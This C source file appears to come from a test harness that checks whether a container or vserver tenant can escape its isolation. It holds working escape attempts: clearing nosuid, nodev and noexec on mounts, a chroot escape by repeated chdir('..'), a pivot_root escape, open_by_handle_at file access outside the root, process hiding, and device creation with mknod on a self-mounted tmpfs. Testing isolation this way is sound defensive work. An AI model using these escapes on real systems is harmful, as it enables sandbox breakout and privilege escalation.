/* Attacks mounts, directories and files, and attacks with device nodes. */
#include "tenant.h"

/* --- mounts and directories ----------------------------------------------- */

static int change_mount(const char *path, uint64_t set, uint64_t clear)
{
	struct mount_attr attr = { .attr_set = set, .attr_clr = clear };

	return done_if(syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &attr,
			       sizeof(attr)));
}

static uint64_t flag_of(const char *name)
{
	static const struct {
		const char *name;
		uint64_t flag;
	} flags[] = {
		{ "ro", MOUNT_ATTR_RDONLY },
		{ "nosuid", MOUNT_ATTR_NOSUID },
		{ "nodev", MOUNT_ATTR_NODEV },
		{ "noexec", MOUNT_ATTR_NOEXEC },
	};
	size_t i;

	for (i = 0; i < sizeof(flags) / sizeof(flags[0]); i++)
		if (strcmp(flags[i].name, name) == 0)
			return flags[i].flag;
	return 0;
}

/* Takes a flag away, in both ways, and from a copy of the mount, too. */
int try_clear(char **args)
{
	int rc = change_mount(args[1], 0, flag_of(args[0]));

	if (rc == 0 || mount(NULL, args[1], NULL, 4096 | 32, NULL) == 0)
		return 0;
	if (mount(args[1], "/mnt", NULL, 4096, NULL) < 0)
		return rc;
	return change_mount("/mnt", 0, flag_of(args[0]));
}

int try_umount(char **args)
{
	return done_if(umount2(args[0], DETACH_LAZILY));
}

/* A copy of a mount alone shows what other mounts cover. */
int try_uncover(char **args)
{
	int fd =
		(int)syscall(SYS_open_tree, AT_FDCWD, args[0], OPEN_TREE_CLONE);

	if (fd >= 0 || mount(args[0], "/mnt", NULL, 4096, NULL) == 0)
		return 0;
	return done_if(mount(args[0], "/mnt", NULL, 8192, NULL));
}

/* mount TYPE SOURCE DATA: "-" is no data. */
int try_mount(char **args)
{
	if (strcmp(args[2], "-") == 0)
		args[2] = NULL;
	return done_if(mount(args[1], "/mnt", args[0], 1, args[2]));
}

/* Makes a copy of a mount on which ids are mapped anew. */
int try_idmap(char **args)
{
	struct mount_attr attr = { .attr_set = MOUNT_ATTR_IDMAP };
	int tree =
		(int)syscall(SYS_open_tree, AT_FDCWD, args[0], OPEN_TREE_CLONE);
	int user = open("/proc/self/ns/user", O_RDONLY);

	if (tree < 0 || user < 0)
		return -errno;
	attr.userns_fd = (unsigned)user;
	return done_if(syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH,
			       &attr, sizeof(attr)));
}

/* Goes up and up from a directory that is not below the root any more. */
int try_chroot(char **args)
{
	int i;

	(void)args;
	mkdir("/tmp/jail", 0700);
	if (chroot("/tmp/jail") < 0)
		return -errno;
	for (i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return -errno;
	if (chroot(".") < 0)
		return -errno;
	return is_outside() ? 0 : -EPERM;
}

/* Does the same with another root, and looks at what our root covers. */
int try_pivot(char **args)
{
	int i;

	(void)args;
	if (unshare(CLONE_NEWNS) < 0)
		return -errno;
	mkdir("/tmp/new", 0700);
	mount("/tmp/new", "/tmp/new", NULL, 4096, NULL);
	mkdir("/tmp/new/old", 0700);
	if (chdir("/tmp/new") < 0 || syscall(SYS_pivot_root, ".", "old") < 0)
		return -errno;
	if (umount2("/old", DETACH_LAZILY) == 0 && is_outside())
		return 0;
	if (chdir("/old") < 0)
		return -errno;
	for (i = 0; i < 64; i++)
		(void)!chdir("..");
	(void)!chroot(".");
	return is_outside() ? 0 : -EPERM;
}

static void print_handle(const struct file_handle *handle)
{
	unsigned i;

	printf("%d:", handle->handle_type);
	for (i = 0; i < handle->handle_bytes; i++)
		printf("%02x", handle->f_handle[i]);
	putchar('\n');
}

union handle {
	struct file_handle handle;
	char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

/* handle PATH: prints the HANDLE that "byhandle" takes. */
int show_handle(const char *path)
{
	union handle found = { .handle.handle_bytes = MAX_HANDLE_SZ };
	int id;

	if (name_to_handle_at(AT_FDCWD, path, &found.handle, &id, 0) < 0) {
		perror(path);
		return 1;
	}
	print_handle(&found.handle);
	return 0;
}

/* byhandle PATH HANDLE: opens a file of PATH's filesystem, wherever it is. */
int try_byhandle(char **args)
{
	union handle wanted = { .handle.handle_type = number(args[1]) };
	const char *hex = strchr(args[1], ':');
	int at = open(args[0], O_RDONLY | O_DIRECTORY);
	unsigned byte;

	if (!hex || at < 0)
		return BROKEN;
	for (hex++; sscanf(hex, "%2x", &byte) == 1; hex += 2)
		wanted.handle.f_handle[wanted.handle.handle_bytes++] =
			(unsigned char)byte;
	if (open_by_handle_at(at, &wanted.handle, O_RDONLY) >= 0)
		return 0;
	return done_if(
		open_by_handle_at(at, &wanted.handle, O_RDONLY | O_DIRECTORY));
}

int try_read(char **args)
{
	char byte;
	int fd = open(args[0], O_RDONLY | O_NONBLOCK);

	if (fd < 0)
		return -errno;
	return read(fd, &byte, 1) < 0 && errno != EISDIR ? -errno : 0;
}

int try_write(char **args)
{
	return done_if(open(args[0], O_WRONLY | O_NONBLOCK));
}

int try_create(char **args)
{
	return done_if(open(args[0], O_WRONLY | O_CREAT, 0600));
}

int try_exec(char **args)
{
	execv(args[0], args);
	return -errno;
}

/* Leaves a process that has nothing by which the vserver's are known. */
int try_hide(char **args)
{
	int hidden[2];
	char none;

	(void)args;
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0 ||
	    mount("hidden", "/mnt", "tmpfs", 0, NULL) < 0 ||
	    chdir("/mnt") < 0 || chroot(".") < 0 || pipe(hidden) < 0)
		return -errno;
	if (fork() != 0) {
		/* Until it has left the session it would end with that. */
		close(hidden[1]);
		return read(hidden[0], &none, 1) == 0 ? 0 : -EIO;
	}
	setsid();
	prctl(PR_SET_NAME, "hidden");
	close_range(0, ~0U, 0);
	for (;;)
		pause();
}

/* --- devices -------------------------------------------------------------- */

/* mknod b MAJOR MINOR DIRECTORY: makes a device; "read" opens one. */
int try_mknod(char **args)
{
	dev_t device =
		makedev((unsigned)number(args[1]), (unsigned)number(args[2]));
	char path[256];

	snprintf(path, sizeof(path), "%s/node", args[3]);
	unlink(path);
	return done_if(mknod(path, (*args[0] == 'b' ? S_IFBLK : S_IFCHR) | 0666,
			     device));
}

/* Does it on a filesystem of the tenant's own, which has no "nodev". */
int try_mknod_tmpfs(char **args)
{
	char *again[] = { args[0], args[1], args[2], (char *)"/mnt" };

	if (mount("mine", "/mnt", "tmpfs", 0, NULL) < 0)
		return -errno;
	return try_mknod(again);
}
